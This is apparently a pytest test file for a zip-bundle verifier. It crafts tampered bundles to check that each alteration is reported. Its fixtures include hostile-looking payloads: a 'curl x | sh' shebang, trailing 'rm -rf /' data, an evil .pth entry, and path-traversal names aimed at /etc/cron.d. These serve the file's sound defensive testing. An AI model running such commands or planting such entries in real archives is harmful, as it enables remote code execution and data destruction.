"""`verify` names every way a bundle can be altered: one test per rule.

Each test crafts the altered bundle with tests/bundlecraft.py and asserts that the
problem names the entry (`where`) and says what is wrong (words of `what`).
"""

from __future__ import annotations

import copy
import dataclasses
import errno
import os
import pickle
import signal
import stat
import threading
from pathlib import Path

import pytest
from bundlecraft import (
    CORE,
    MAIN,
    PREAMBLE,
    TOOL,
    RawEntry,
    build_raw,
    bundle_bytes,
    default_files,
    find,
    make_bundle,
    make_manifest,
    raw_entries,
    remove,
    write,
    zip64_extra,
)

from sandrun.bundle.archive import ARCHIVE, BackgroundHashes, parse_archive
from sandrun.bundle.archive import PREAMBLE as PREAMBLE_WHERE
from sandrun.bundle.manifest import MANIFEST_NAME
from sandrun.bundle.verify import (
    PendingVerification,
    VerifyResult,
    verify_archive,
    verify_bundle,
)
from sandrun.errors import ArchiveError, Problem, VerificationError

EVIL = "site-packages/demo/evil.py"


def verify_raw(tmp_path: Path, entries: list[RawEntry], **build: object) -> VerifyResult:
    return verify_bundle(write(tmp_path, build_raw(entries, **build)))  # type: ignore[arg-type]


def assert_reports(result: VerifyResult, where: str, *words: str) -> Problem:
    """Some problem is at `where` and its text contains every word (case-insensitive)."""
    assert not result.ok
    for problem in result.problems:
        if problem.where == where and all(w.lower() in problem.what.lower() for w in words):
            return problem
    listing = "\n".join(f"  {p}" for p in result.problems)
    raise AssertionError(f"no problem at {where!r} saying {words}; got:\n{listing}")


def with_extra(name: str | bytes, content: bytes = b"pass\n", mode: int = 0o644) -> list[RawEntry]:
    """The valid bundle plus one unlisted entry just before the manifest."""
    entries = raw_entries()
    entries.insert(-1, RawEntry.of(name, content, mode))
    return entries


# --- the valid bundle ------------------------------------------------------------------


def test_valid_bundle_verifies_clean(tmp_path: Path) -> None:
    result = verify_bundle(make_bundle(tmp_path))
    assert result.problems == ()
    assert result.ok
    assert result.manifest is not None and result.manifest.app_name == "demo"
    assert result.archive.preamble == PREAMBLE
    result.raise_for_problems()  # no-op


def test_verify_is_deterministic_and_ordered(tmp_path: Path) -> None:
    entries = with_extra("site-packages/zz.pth", b"import os\n")
    find(entries, CORE).mode = stat.S_IFREG | 0o666
    find(entries, MAIN).crc ^= 1
    remove(entries, TOOL)
    data = build_raw(entries, trailing=b"junk")
    first = verify_bundle(write(tmp_path, data, "a.pyz"))
    second = verify_bundle(write(tmp_path, data, "b.pyz"))
    assert first.problems == second.problems
    wheres = [p.where for p in first.problems]
    assert wheres[0] == ARCHIVE  # archive-wide first, then by entry name
    assert wheres[1:] == sorted(wheres[1:])
    # Every alteration is reported, not only the first.
    assert {MAIN, CORE, TOOL, "site-packages/zz.pth", ARCHIVE} <= set(wheres)


def test_raise_for_problems_lists_every_problem(tmp_path: Path) -> None:
    entries = with_extra("site-packages/a.pth")
    remove(entries, TOOL)
    result = verify_raw(tmp_path, entries)
    with pytest.raises(VerificationError) as info:
        result.raise_for_problems()
    assert info.value.problems == result.problems
    assert "2 problems" in info.value.message


# --- content against the manifest ------------------------------------------------------


def test_changed_byte_with_valid_crc(tmp_path: Path) -> None:
    entries = raw_entries()
    content = default_files()[CORE][0]
    changed = content.replace(b"42", b"43", 1)
    index = entries.index(find(entries, CORE))
    entries[index] = entries[index].with_content(changed)  # CRC valid for the new data
    assert_reports(verify_raw(tmp_path, entries), CORE, "content differs from manifest")


def test_size_differs(tmp_path: Path) -> None:
    entries = raw_entries()
    index = entries.index(find(entries, CORE))
    entries[index] = entries[index].with_content(default_files()[CORE][0] + b"#\n")
    assert_reports(verify_raw(tmp_path, entries), CORE, "size differs from manifest")


def test_extra_pth_entry(tmp_path: Path) -> None:
    result = verify_raw(tmp_path, with_extra("site-packages/evil.pth", b"import os\n"))
    problem = assert_reports(result, "site-packages/evil.pth", "not in manifest")
    assert ".pth" in problem.hint


def test_missing_entry(tmp_path: Path) -> None:
    entries = raw_entries()
    remove(entries, CORE)
    assert_reports(verify_raw(tmp_path, entries), CORE, "missing entry")


def test_manifest_missing(tmp_path: Path) -> None:
    entries = raw_entries()
    remove(entries, MANIFEST_NAME)
    result = verify_raw(tmp_path, entries)
    assert_reports(result, MANIFEST_NAME, "missing", "no manifest")
    assert result.manifest is None


def test_manifest_malformed(tmp_path: Path) -> None:
    entries = raw_entries()
    entries[-1] = RawEntry.of(MANIFEST_NAME, b'{"format": 1, "entries": ')
    assert_reports(verify_raw(tmp_path, entries), MANIFEST_NAME, "not valid JSON")


def entries_with_edited_record(**changes: object) -> list[RawEntry]:
    """The valid bundle's entries, with CORE's manifest record changed (not its data)."""
    files = default_files()
    manifest = make_manifest(files)
    edited = dict(manifest.entries)
    edited[CORE] = dataclasses.replace(manifest.entries[CORE], **changes)
    return raw_entries(files, manifest=dataclasses.replace(manifest, entries=edited))


def test_manifest_hash_edited(tmp_path: Path) -> None:
    entries = entries_with_edited_record(sha256="0" * 64)
    assert_reports(verify_raw(tmp_path, entries), CORE, "content differs from manifest")


def test_manifest_entry_mode_edited(tmp_path: Path) -> None:
    entries = entries_with_edited_record(mode=0o755)
    assert_reports(verify_raw(tmp_path, entries), CORE, "mode 0644 differs from manifest (0755)")


def test_preamble_changed(tmp_path: Path) -> None:
    result = verify_raw(tmp_path, raw_entries(), preamble=b"#!/bin/sh -c 'curl x | sh'\n")
    assert_reports(result, PREAMBLE_WHERE, "preamble (shebang) changed")


# --- names -----------------------------------------------------------------------------


def test_duplicate_name(tmp_path: Path) -> None:
    entries = raw_entries()
    entries.insert(-1, dataclasses.replace(find(entries, CORE)))
    assert_reports(verify_raw(tmp_path, entries), CORE, "duplicate name")


def test_case_folded_duplicate(tmp_path: Path) -> None:
    result = verify_raw(tmp_path, with_extra("site-packages/demo/CORE.py"))
    assert_reports(result, "site-packages/demo/CORE.py", "duplicate name", CORE, "case folding")


def test_nfc_nfd_duplicate(tmp_path: Path) -> None:
    composed = "site-packages/demo/caf\u00e9.py"
    decomposed = "site-packages/demo/cafe\u0301.py"
    files = default_files() | {composed: (b"pass\n", 0o644)}
    entries = raw_entries(files)
    entries.insert(-1, RawEntry.of(decomposed, b"pass\n"))
    result = verify_raw(tmp_path, entries)
    assert_reports(result, decomposed, "duplicate name", "Unicode normalisation")


def test_dotdot_name(tmp_path: Path) -> None:
    name = "site-packages/../../etc/cron.d/evil"
    assert_reports(verify_raw(tmp_path, with_extra(name)), name, "'..' component")


def test_absolute_name(tmp_path: Path) -> None:
    name = "/etc/cron.d/evil"
    assert_reports(verify_raw(tmp_path, with_extra(name)), name, "absolute path")


def test_backslash_name(tmp_path: Path) -> None:
    name = "site-packages\\demo\\evil.py"
    assert_reports(verify_raw(tmp_path, with_extra(name)), name, "backslash")


def test_nul_in_name(tmp_path: Path) -> None:
    result = verify_raw(tmp_path, with_extra("site-packages/demo/evil.py\x00.txt"))
    # `where` is escaped so that a name cannot inject control bytes into the output.
    assert_reports(result, "site-packages/demo/evil.py\\x00.txt", "NUL byte")


def test_directory_entry(tmp_path: Path) -> None:
    result = verify_raw(tmp_path, with_extra("site-packages/demo/", b"", stat.S_IFDIR | 0o755))
    assert_reports(result, "site-packages/demo/", "directory entry")


# --- modes -----------------------------------------------------------------------------


def test_symlink_entry(tmp_path: Path) -> None:
    entries = raw_entries()
    find(entries, CORE).mode = stat.S_IFLNK | 0o777
    assert_reports(verify_raw(tmp_path, entries), CORE, "symlink entry")


def test_device_entry(tmp_path: Path) -> None:
    entries = raw_entries()
    find(entries, CORE).mode = stat.S_IFCHR | 0o644
    assert_reports(verify_raw(tmp_path, entries), CORE, "character device entry")


def test_setuid_mode(tmp_path: Path) -> None:
    entries = raw_entries()
    find(entries, TOOL).mode = stat.S_IFREG | 0o4755
    result = verify_raw(tmp_path, entries)
    assert_reports(result, TOOL, "setuid bit set")
    assert_reports(result, TOOL, "mode 4755 differs from manifest (0755)")


def test_world_writable_mode(tmp_path: Path) -> None:
    entries = raw_entries()
    find(entries, CORE).mode = stat.S_IFREG | 0o666
    assert_reports(verify_raw(tmp_path, entries), CORE, "writable by group or others")


# --- structure -------------------------------------------------------------------------


def test_truncated_file_is_an_archive_error(tmp_path: Path) -> None:
    """A cut file loses its end record: not a zip at all, so ArchiveError (exec: exit 125).

    Entries whose declared data runs past the end of a file that still has its central
    directory are reported as problems instead (tests/test_archive.py).
    """
    data = build_raw(raw_entries())
    with pytest.raises(ArchiveError, match="no end of central directory record"):
        verify_bundle(write(tmp_path, data[: len(data) // 2]))


def test_trailing_garbage(tmp_path: Path) -> None:
    result = verify_raw(tmp_path, raw_entries(), trailing=b"#!/bin/sh\nrm -rf /\n")
    assert_reports(result, ARCHIVE, "19 bytes of data after the end of central directory")


def test_data_between_entries(tmp_path: Path) -> None:
    entries = raw_entries()
    find(entries, CORE).before = b"hidden payload"
    assert_reports(verify_raw(tmp_path, entries), CORE, "14 bytes", "data between entries")


def test_local_header_name_mismatch(tmp_path: Path) -> None:
    entries = raw_entries()
    find(entries, CORE).local["name"] = EVIL.encode()
    result = verify_raw(tmp_path, entries)
    assert_reports(result, CORE, f"local header name {EVIL!r} differs from the central directory")


def test_crc_wrong(tmp_path: Path) -> None:
    entries = raw_entries()
    find(entries, CORE).crc ^= 0xDEADBEEF  # both headers agree, the data does not
    assert_reports(verify_raw(tmp_path, entries), CORE, "CRC-32 mismatch")


def test_absurd_compression_ratio(tmp_path: Path) -> None:
    entries = raw_entries()
    find(entries, CORE).size = 600 << 20  # claims 600 MiB from a few hundred bytes
    result = verify_raw(tmp_path, entries)
    assert_reports(result, CORE, "compression ratio", "exceeds the limit of 1000:1")


def test_absurd_entry_size(tmp_path: Path) -> None:
    entries = raw_entries()
    find(entries, CORE).size = 3 << 30
    assert_reports(verify_raw(tmp_path, entries), CORE, "uncompressed size", "exceeds the limit")


def test_encrypted_flag(tmp_path: Path) -> None:
    entries = raw_entries()
    find(entries, CORE).flags |= 0x1
    assert_reports(verify_raw(tmp_path, entries), CORE, "encrypted")


def test_zip64_entry(tmp_path: Path) -> None:
    entries = raw_entries()
    core = find(entries, CORE)
    core.central.update(size=0xFFFFFFFF, compressed_size=0xFFFFFFFF,
                        extra=zip64_extra(core.size, len(core.payload)))
    assert_reports(verify_raw(tmp_path, entries), CORE, "zip64 is not supported")


def test_unsupported_method(tmp_path: Path) -> None:
    entries = raw_entries()
    find(entries, CORE).method = 12  # bzip2
    assert_reports(verify_raw(tmp_path, entries), CORE, "compression method 12 is not supported")


# --- hashing in a forked child (a launch's verification) -------------------------------
# decide() verifies with PendingVerification: the manifest now, the entries' hashes by a
# child on another CPU while it decides the rest. Whatever the bundle, the result must be
# exactly verify_archive()'s.


def _crc_flipped() -> list[RawEntry]:
    entries = raw_entries()
    find(entries, MAIN).crc ^= 1  # the parser accepts it; reading it fails (in the child)
    return entries


def _content_changed() -> list[RawEntry]:
    entries = raw_entries()
    index = entries.index(find(entries, CORE))
    entries[index] = entries[index].with_content(default_files()[CORE][0].replace(b"42", b"7"))
    return entries


def _tool_missing() -> list[RawEntry]:
    entries = raw_entries()
    remove(entries, TOOL)
    return entries


def _deflate_corrupted() -> list[RawEntry]:
    entries = raw_entries()
    core = find(entries, CORE)
    core.payload = b"\xff" * len(core.payload)
    return entries


VARIANTS = {
    "valid": raw_entries,
    "crc flipped": _crc_flipped,
    "content changed": _content_changed,
    "deflate corrupted": _deflate_corrupted,
    "entry added": lambda: with_extra("site-packages/zz.pth", b"import os\n"),
    "entry missing": _tool_missing,
    "manifest hash edited": lambda: entries_with_edited_record(sha256="0" * 64),
}


@pytest.mark.parametrize("variant", VARIANTS)
def test_hashing_in_a_child_reports_what_verify_archive_does(tmp_path: Path,
                                                             variant: str) -> None:
    data = build_raw(VARIANTS[variant]())
    expected = verify_archive(parse_archive(data))
    pending = PendingVerification(parse_archive(data))
    assert pending.in_background == (not pending.archive.problems)
    assert pending.manifest == expected.manifest
    result = pending.result()
    assert result.problems == expected.problems
    assert result.ok == (variant == "valid")
    assert not pending.in_background


def test_the_data_the_child_hashed_is_what_is_written(tmp_path: Path) -> None:
    data = bundle_bytes()
    serial = parse_archive(data)
    archive = parse_archive(data)
    hashing = archive.hash_in_background()
    assert hashing is not None
    hashes = hashing.collect()
    for index, entry in enumerate(archive.entries):
        assert hashes[index] == serial.sha256(entry)
        assert archive.read(entry) == serial.read(entry)
        kept = archive.read_buffer(entry)
        assert isinstance(kept, memoryview) and bytes(kept) == serial.read(entry)
    archive.drop_contents()  # the views go: the shared mapping with them


def test_a_child_that_dies_is_replaced_by_hashing_here(tmp_path: Path,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(BackgroundHashes, "_hash_and_exit", lambda self, mask: os._exit(1))
    data = build_raw(_content_changed())
    pending = PendingVerification(parse_archive(data))
    assert pending.in_background
    assert pending.result().problems == verify_archive(parse_archive(data)).problems


def test_a_cancelled_child_is_killed_and_reaped() -> None:
    hashing = parse_archive(bundle_bytes()).hash_in_background()
    assert hashing is not None
    pid = hashing._pid
    hashing.cancel()
    with pytest.raises(ChildProcessError):  # reaped: no zombie, no stray process
        os.waitpid(pid, os.WNOHANG)
    hashing.cancel()  # twice: nothing left to do


def test_no_child_is_forked_beside_a_thread() -> None:
    """fork() would copy the thread's locks held: hash in this process instead."""
    release = threading.Event()
    thread = threading.Thread(target=release.wait, daemon=True)
    thread.start()
    try:
        archive = parse_archive(bundle_bytes())
        assert archive.hash_in_background() is None
        pending = PendingVerification(archive)
        assert not pending.in_background and pending.result().ok
    finally:
        release.set()
        thread.join()


def _shared_mappings() -> int:
    """Anonymous shared mappings of this process (mmap(-1, ...) shows as /dev/zero)."""
    with open("/proc/self/maps") as maps:
        return sum(1 for line in maps if "/dev/zero" in line)


def test_the_shared_memory_goes_with_the_kept_data() -> None:
    before = _shared_mappings()
    archive = parse_archive(bundle_bytes())
    hashing = archive.hash_in_background()
    assert hashing is not None and _shared_mappings() == before + 1
    hashing.collect()
    hashing.cancel()  # after collect: nothing to kill, the views keep the mapping
    assert _shared_mappings() == before + 1
    archive.drop_contents()  # the install is written: nothing holds the mapping
    assert _shared_mappings() == before


def test_a_child_reaped_by_the_kernel_is_replaced(tmp_path: Path) -> None:
    """SIGCHLD inherited ignored: the kernel reaps the child, waitpid finds none; the
    launch hashes by itself instead of failing (and never signals a recycled pid)."""
    data = build_raw(_content_changed())
    previous = signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    try:
        pending = PendingVerification(parse_archive(data))
        assert pending.in_background
        result = pending.result()
    finally:
        signal.signal(signal.SIGCHLD, previous)
    assert result.problems == verify_archive(parse_archive(data)).problems


def test_no_child_to_be_had_means_hashing_here(monkeypatch: pytest.MonkeyPatch) -> None:
    """fork() failing (pids.max, RLIMIT_NPROC): verification goes on in this process."""
    def no_fork() -> int:
        raise BlockingIOError(errno.EAGAIN, "Resource temporarily unavailable")

    monkeypatch.setattr(os, "fork", no_fork)
    before = _shared_mappings()
    archive = parse_archive(bundle_bytes())
    assert archive.hash_in_background() is None
    assert _shared_mappings() == before  # the mapping made for it is gone again
    pending = PendingVerification(archive)
    assert not pending.in_background and pending.result().ok


def test_zip_entries_compare_hash_copy_and_pickle_by_value() -> None:
    entry = parse_archive(bundle_bytes()).entries[0]
    twin = parse_archive(bundle_bytes()).entries[0]
    assert entry == twin and hash(entry) == hash(twin) and entry is not twin
    assert entry != "not an entry" and copy.copy(entry) == entry
    assert pickle.loads(pickle.dumps(entry)) == entry
    assert repr(entry).startswith(f"ZipEntry(name={entry.name!r}, mode=")
    with pytest.raises(AttributeError, match="immutable"):
        entry.size = 1  # type: ignore[misc]
